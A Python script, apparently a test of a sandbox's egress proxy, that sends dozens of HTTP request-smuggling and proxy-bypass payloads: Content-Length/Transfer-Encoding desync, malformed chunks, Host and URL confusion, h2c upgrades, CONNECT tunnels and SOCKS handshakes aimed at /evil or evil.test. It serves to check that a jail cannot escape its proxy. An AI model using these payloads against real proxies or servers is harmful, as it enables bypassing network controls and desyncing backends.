#!/usr/bin/python3
"""smuggle.py HOST:PORT - from inside a jail that may reach HOST:PORT: every
way we know to have the proxy pass on a request for /evil or for another host,
one connection each.  Each valid request asks for /fine.  Prints how many were
sent."""
import os
import socket
import struct
import sys
from urllib.parse import urlsplit

HERE = sys.argv[1].encode()
NAME, PORT = HERE.split(b":")
PROXY = urlsplit(os.environ["http_proxy"])
EVIL = b"GET /evil HTTP/1.1\r\nHost: " + HERE + b"\r\n\r\n"
AWAY = b"GET /evil HTTP/1.1\r\nHost: evil.test\r\n\r\n"
LINE = b"POST http://" + HERE + b"/fine HTTP/1.1\r\n"
HOST = b"Host: " + HERE + b"\r\n"
POST = LINE + HOST
CHUNK = POST + b"Transfer-Encoding: chunked\r\n\r\n"

BODIES = [
    # two ideas of where the first request ends
    POST + b"Content-Length: 0\r\nContent-Length: 80\r\n\r\n" + EVIL,
    POST + b"Content-Length: 0, 80\r\n\r\n" + EVIL,
    POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    + EVIL,
    POST + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n"
    + EVIL,
    POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"
    b"\r\n0\r\n\r\n" + EVIL,
    POST + b"Transfer-Encoding: identity\r\n\r\n" + EVIL,
    POST + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n" + EVIL,
    POST + b"Transfer-Encoding: chunked;q=1\r\n\r\n0\r\n\r\n" + EVIL,
    POST + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + EVIL,
    POST + b"Transfer-Encoding\t: chunked\r\n\r\n0\r\n\r\n" + EVIL,
    POST + b"Transfer-Encoding: \"chunked\"\r\n\r\n0\r\n\r\n" + EVIL,
    POST + b"Transfer_Encoding: chunked\r\nContent-Length: 5\r\n"
    b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + EVIL,
    POST + b"X: y\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL,
    POST + b"X: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL,
    POST + b"X: y\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL,
    POST + b"Content-Length: +0\r\n\r\n" + EVIL,
    POST + b"Content-Length: 0x0\r\n\r\n" + EVIL,
    POST + b"Content-Length: 00000000000000000000\r\n\r\n" + EVIL,
    POST + b"Content-Length: -1\r\n\r\n" + EVIL,
    POST + b"Content-Length: 18446744073709551616\r\n\r\n" + EVIL,
    LINE.replace(b"1.1", b"1.0") + HOST +
    b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL,
    # chunks that are none
    CHUNK + b"0\n\n" + EVIL,
    CHUNK + b"0\r\n\n" + EVIL,
    CHUNK + b"0;\n\r\n" + EVIL,
    CHUNK + b"-0\r\n\r\n" + EVIL,
    CHUNK + b"0x0\r\n\r\n" + EVIL,
    CHUNK + b" 0\r\n\r\n" + EVIL,
    CHUNK + b"\r\n0\r\n\r\n" + EVIL,
    CHUNK + b"10000000000000000\r\n" + EVIL,
    CHUNK + b"ffffffffffffffff1\r\n" + EVIL,
    CHUNK + b"2\r\nabX\r\n0\r\n\r\n" + EVIL,
    CHUNK + b"2\r\nab0\r\n\r\n" + EVIL,
    CHUNK + b"0\r\nbad trailer\n\r\n" + EVIL,
    # who is meant
    LINE + b"Host: evil.test\r\n\r\n",
    LINE + HOST + b"Host: evil.test\r\n\r\n",
    LINE + b"Host: " + HERE + b"\x00.evil.test\r\n\r\n",
    LINE + b"Host: " + HERE + b"@evil.test\r\n\r\n",
    LINE + b"Host: evil.test, " + HERE + b"\r\n\r\n",
    LINE + b"Host : evil.test\r\n\r\n",
    b"GET http://evil.test/evil HTTP/1.1\r\n" + HOST + b"\r\n",
    b"GET http://" + HERE + b"@evil.test/evil HTTP/1.1\r\n" + HOST + b"\r\n",
    b"GET http://evil.test#@" + HERE + b"/evil HTTP/1.1\r\n" + HOST + b"\r\n",
    b"GET http://evil.test\\@" + HERE + b"/evil HTTP/1.1\r\n" + HOST +
    b"\r\n",
    b"GET http://" + NAME + b":1" + PORT + b"/evil HTTP/1.1\r\nHost: " +
    NAME + b":1" + PORT + b"\r\n\r\n",
    b"GET http://" + NAME + b":" + PORT + b".evil.test/evil HTTP/1.1\r\n" +
    HOST + b"\r\n",
    b"GET http://" + HERE + b"/fine\tHTTP/1.1\r\nHost: evil.test\r\n\r\n",
    b"GET http://" + HERE + b"/fine HTTP/1.1 HTTP/1.1\r\n" + HOST + b"\r\n",
    b"GET\thttp://" + HERE + b"/evil HTTP/1.1\r\n" + HOST + b"\r\n",
    b"GET //evil.test/evil HTTP/1.1\r\n" + HOST + b"\r\n",
    b"\r\n\r\n" + AWAY,
    # something else than HTTP/1
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + EVIL,
    POST + b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"
    b"HTTP2-Settings: AAMAAABk\r\nContent-Length: 0\r\n\r\n" + AWAY,
    POST + b"Upgrade: websocket, h2c\r\nConnection: Upgrade\r\n"
    b"Content-Length: 0\r\n\r\n" + AWAY,
    # a tunnel, and then another host in it
    b"CONNECT " + HERE + b" HTTP/1.1\r\n\r\n" + AWAY,
    b"CONNECT " + HERE + b" HTTP/1.1\r\nContent-Length: 80\r\n\r\n" + EVIL,
    b"CONNECT evil.test:" + PORT + b" HTTP/1.1\r\n" + HOST + b"\r\n" + EVIL,
    # as only a generous server takes it
    *(b"CONNECT " + HERE + b" HTTP/1.1\r\n\r\n" + way for way in (
        b"get" + AWAY[3:], b"\r\n" + AWAY, b"\n\n" + AWAY,
        b"GET\t" + AWAY[4:], b"M-SEARCH" + AWAY[3:],
        b"AVERYLONGMETHODINDEED" + AWAY[3:], b"x!#9" + AWAY[3:],
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + EVIL,
        AWAY.replace(b" HTTP/1.1", b"\tHTTP/1.1"),
        AWAY.replace(b"/1.1", b"/01.1"), AWAY.replace(b"/1.1", b"/0.9"),
        AWAY.replace(b"HTTP", b"http"),
        AWAY.replace(b" HTTP/1.1", b"?HTTP/1. HTTP/1.1"),
        AWAY.replace(b"evil ", b"evil?" + 5000 * b"a" + b" "),
        b"A" * 5000 + AWAY[3:])),
    b"CONNECT " + HERE + b"@evil.test:443 HTTP/1.1\r\n\r\n" + EVIL,
    b"CONNECT http://" + HERE + b" HTTP/1.1\r\n\r\n" + EVIL,
    b"CONNECT 0x7f.1:" + PORT + b" HTTP/1.1\r\nHost: evil.test\r\n\r\n" +
    EVIL,
    # SOCKS
    b"\4\1" + struct.pack(">H", int(PORT)) + b"\x7f\0\0\1u\0" + EVIL,
    b"\5\1\0\5\2\0\1\x7f\0\0\1" + struct.pack(">H", int(PORT)) + EVIL,
    b"\5\1\0\5\3\0\1\x7f\0\0\1" + struct.pack(">H", int(PORT)) + EVIL,
    b"\5\1\0\5\1\0\3\x13" + NAME + b"\0.evil.test"[:10] +
    struct.pack(">H", int(PORT)) + EVIL,
    b"\5\1\0\5\1\0\3\0" + struct.pack(">H", int(PORT)) + EVIL,
    b"\5\1\2\5\1\0\1\x7f\0\0\1" + struct.pack(">H", int(PORT)) + EVIL,
    b"\5\1\0\5\1\0\1\x7f\0\0\2" + struct.pack(">H", int(PORT)) + EVIL,
    b"\5\1\0\5\1\0\1\x7f\0\0\1" + struct.pack(">H", int(PORT)) + AWAY,
]


def send(data):
    s = socket.create_connection((PROXY.hostname, PROXY.port), 10)
    s.settimeout(0.3)
    try:
        s.sendall(data)
        while s.recv(65536):
            pass
    except OSError:
        pass
    s.close()


def main():
    for body in BODIES:
        send(body)
        # Byte by byte what was read at once before may look different.
        s = socket.create_connection((PROXY.hostname, PROXY.port), 10)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            for i in range(len(body)):
                s.send(body[i:i + 1])
        except OSError:
            pass
        s.close()
    print("sent", len(BODIES))


main()
